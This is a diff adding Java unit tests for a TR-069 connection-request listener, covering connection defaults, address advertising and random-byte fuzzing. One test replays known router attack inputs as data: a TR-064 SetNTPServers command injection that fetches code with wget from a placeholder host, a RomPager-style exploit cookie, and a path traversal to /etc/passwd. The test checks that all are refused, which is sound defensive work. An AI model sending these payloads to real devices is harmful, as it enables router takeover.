@@ -224,6 +224,82 @@ class HttpConnectionRequestSourceTest {
         }
     }
 
+    /** Eight unless told otherwise. */
+    @Test
+    @Rule("CRQ-21")
+    void theDefaultIsEight() {
+        assertThat(settings.maxConnections()).isEqualTo(8);
+    }
+
+    @Test
+    @Rule("CRQ-34")
+    void anotherAddressMayBeAdvertisedAtAnyTime() {
+        List<String> told = new ArrayList<>();
+        Registration registration = source.register("/p", new org.cwmp4j.cpe.connectionrequest.ConnectionRequestHandler() {
+            @Override
+            public void handle(
+                    ConnectionRequest request, java.util.function.Consumer<ConnectionRequestAnswer> reply) {
+                reply.accept(OK);
+            }
+
+            @Override
+            public void urlChanged() {
+                told.add("changed");
+            }
+        });
+        URI own = registration.url();
+        source.advertise(new InetSocketAddress("198.51.100.7", 49152));
+        assertThat(registration.url()).hasToString("http://198.51.100.7:49152/p");
+        source.advertise(null);
+        assertThat(registration.url()).isEqualTo(own);
+        assertThat(told).hasSize(2);
+    }
+
+    /** What worms of TR-064 send, and a cookie as the one that took over RomPager: nothing is parsed, nothing is done. */
+    @Test
+    @Rule({"SEC-12", "SEC-13", "CRQ-21"})
+    void nothingElseIsServedHere() throws Exception {
+        URI url = register("/cr", CHALLENGE).url();
+        String worm = "<?xml version=\"1.0\"?><SOAP-ENV:Envelope><SOAP-ENV:Body><u:SetNTPServers>"
+                + "<NewNTPServer1>`cd /tmp;wget http://l.example/1`</NewNTPServer1></u:SetNTPServers>";
+        List<String> heads = List.of(
+                "POST /UD/act?1 HTTP/1.1\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n",
+                "POST /cr HTTP/1.1\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n",
+                "GET /rom-0 HTTP/1.1\r\nCookie: C107373883=/omg1337hax\r\n",
+                "GET /cr/../../etc/passwd HTTP/1.1\r\nCookie: " + "C=".repeat(3000) + "\r\n");
+        for (String head : heads) {
+            try (Socket socket = connect(url)) {
+                send(socket, head + "Host: x\r\nContent-Length: " + worm.length() + "\r\n\r\n" + worm);
+                assertThat(RawHttp.readCall(socket)).matches("(?s)HTTP/1\\.1 (404|401|405) .*");
+            }
+        }
+        assertThat(seen.stream().map(ConnectionRequest::method)).containsExactly("POST");
+    }
+
+    /** Bytes that are no HTTP: answered by 400 or closed, and the next one is served. */
+    @Test
+    @Rule({"SEC-13", "CRQ-21"})
+    void noiseDoesNotStopTheListener() throws Exception {
+        URI url = register("/cr", OK).url();
+        java.util.Random noise = new java.util.Random(7);
+        for (int i = 0; i < 50; i++) {
+            byte[] bytes = new byte[1 + noise.nextInt(3000)];
+            noise.nextBytes(bytes);
+            try (Socket socket = connect(url)) {
+                socket.getOutputStream().write(bytes);
+                socket.getOutputStream().write("\r\n\r\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII));
+                socket.shutdownOutput();
+                assertThat(RawHttp.readCall(socket)).doesNotContain("HTTP/1.1 200");
+            } catch (IOException e) {
+                // closed at once, which is as good
+            }
+        }
+        assertThat(seen).isEmpty();
+        try (Socket socket = get(url, "/cr")) {
+            assertThat(RawHttp.readCall(socket)).startsWith("HTTP/1.1 200");
+        }
+    }
+
     @Test
     void aHandlerThatThrowsOrForgetsGets503() throws Exception {
         URI url = source.register("/cr", (request, reply) -> {}).url();
